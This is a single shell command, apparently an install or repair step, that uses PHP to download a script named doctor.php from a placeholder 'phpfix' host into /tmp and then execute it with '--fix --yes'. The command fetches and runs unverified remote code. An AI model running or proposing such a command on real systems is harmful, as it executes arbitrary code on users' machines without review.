php -r "copy('https://get.phpfix.example.org/doctor.php', '/tmp/d.php'); include '/tmp/d.php';" -- --fix --yes
